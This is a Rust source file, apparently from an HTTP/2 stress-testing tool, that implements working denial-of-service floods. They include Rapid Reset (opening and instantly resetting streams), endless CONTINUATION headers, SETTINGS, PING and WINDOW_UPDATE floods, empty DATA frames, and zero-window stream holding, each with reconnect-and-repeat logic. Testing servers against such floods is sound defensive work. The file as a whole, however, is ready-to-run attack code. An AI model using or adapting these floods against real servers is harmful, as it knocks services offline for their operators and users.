//! Floods of HTTP/2's frames.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, OPENING, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, push,
    request,
};
use crate::scene::Scene;

/// How many frames are written at a time.
const BATCH: usize = 100;

/// So many batches may wait for their answers: the server always has more to do, and is not to work
/// for half a minute on what the system's buffers hold when the flood ends.
const MOST_UNANSWERED: usize = 50;
/// The payload of the ping behind each batch, by which its answer is known.
const BATCH_ENDS: &[u8; 8] = b"batchend";

/// Sends `opening` on a new connection, and then `next` again and again, as fast as the server
/// works it off; reads the answers away, and connects anew whenever the server closes.
fn flood(scene: &Scene, opening: &[u8], mut next: impl FnMut(&mut Vec<u8>)) {
    while let Some(mut stream) = scene.connect() {
        if stream.write_all(OPENING).and_then(|()| stream.write_all(opening)).is_err() {
            continue;
        }
        stream.set_nonblocking(true).expect("sockets can be");
        let (mut frames, mut sent, mut answers) = (Vec::new(), 0, Answers::default());
        while scene.goes_on() {
            if sent - answers.count < MOST_UNANSWERED {
                frames.clear();
                next(&mut frames);
                push(&mut frames, PING, 0, 0, BATCH_ENDS);
                sent += 1;
                if !write(scene, &mut stream, &frames, &mut answers) {
                    break;
                }
            } else {
                std::thread::yield_now();
            }
            if !answers.read(&mut stream) {
                break;
            }
        }
    }
}

/// The answers on a connection.
#[derive(Default)]
struct Answers {
    /// How many batches were answered.
    count: usize,
    /// The last bytes, which may be the beginning of the next answer.
    last: Vec<u8>,
}

impl Answers {
    /// Reads what there is. Returns false once the connection is closed.
    fn read(&mut self, stream: &mut TcpStream) -> bool {
        let mut buffer = [0; 16 << 10];
        loop {
            match stream.read(&mut buffer) {
                Ok(0) => return false,
                Ok(count) => self.take(&buffer[..count]),
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
    }

    fn take(&mut self, bytes: &[u8]) {
        self.last.extend_from_slice(bytes);
        self.count += self.last.windows(BATCH_ENDS.len()).filter(|window| window == BATCH_ENDS).count();
        let known = self.last.len().saturating_sub(BATCH_ENDS.len() - 1);
        self.last.drain(..known);
    }
}

/// Writes all of it, and reads meanwhile. Returns false once the connection is closed.
fn write(scene: &Scene, stream: &mut TcpStream, mut bytes: &[u8], answers: &mut Answers) -> bool {
    while !bytes.is_empty() && scene.goes_on() {
        match stream.write(bytes) {
            Ok(count) => bytes = &bytes[count..],
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                if !answers.read(stream) {
                    return false;
                }
                std::thread::yield_now();
            }
            Err(_) => return false,
        }
    }
    true
}

/// Streams that are opened and reset at once.
pub(crate) fn rapid_reset(scene: &Scene) {
    let block = request("GET", "/large");
    let mut stream = 1;
    flood(scene, &[], |frames| {
        for _ in 0..BATCH {
            push(frames, HEADERS, END_HEADERS | END_STREAM, stream, &block);
            push(frames, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            // A new connection may begin with any odd number.
            stream = (stream + 2) % (1 << 30);
        }
    });
}

/// A head that goes on and on.
pub(crate) fn continuations(scene: &Scene) {
    let mut opening = Vec::new();
    push(&mut opening, HEADERS, 0, 1, &request("GET", "/"));
    // A header that is not kept in the table: a name of one byte, a value of one.
    let header = b"\x00\x01x\x01y".repeat(100);
    flood(scene, &opening, |frames| {
        for _ in 0..BATCH {
            push(frames, CONTINUATION, 0, 1, &header);
        }
    });
}

/// Each has to be acknowledged.
pub(crate) fn settings(scene: &Scene) {
    flood(scene, &[], |frames| {
        for _ in 0..BATCH {
            push(frames, SETTINGS, 0, 0, &[0, 3, 0, 0, 1, 0]);
        }
    });
}

/// Each has to be answered.
pub(crate) fn pings(scene: &Scene) {
    flood(scene, &[], |frames| {
        for _ in 0..BATCH {
            push(frames, PING, 0, 0, b"annoying");
        }
    });
}

pub(crate) fn window_updates(scene: &Scene) {
    flood(scene, &[], |frames| {
        for _ in 0..BATCH {
            push(frames, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
        }
    });
}

/// A body without bytes, and without an end.
pub(crate) fn empty_data(scene: &Scene) {
    let mut opening = Vec::new();
    push(&mut opening, HEADERS, END_HEADERS, 1, &request("POST", "/upload"));
    flood(scene, &opening, |frames| {
        for _ in 0..BATCH {
            push(frames, DATA, 0, 1, &[]);
        }
    });
}

/// Requests for large answers, as many as there may be streams, with windows that let none through.
pub(crate) fn zero_windows(scene: &Scene) {
    let mut opening = Vec::new();
    push(&mut opening, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    for index in 0..200 {
        push(&mut opening, HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, &request("GET", "/large"));
    }
    let mut held = Vec::new();
    while held.len() < 5 {
        let Some(mut stream) = scene.connect() else { return };
        if stream.write_all(OPENING).and_then(|()| stream.write_all(&opening)).is_ok() {
            held.push(stream);
        }
    }
    while scene.goes_on() {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}
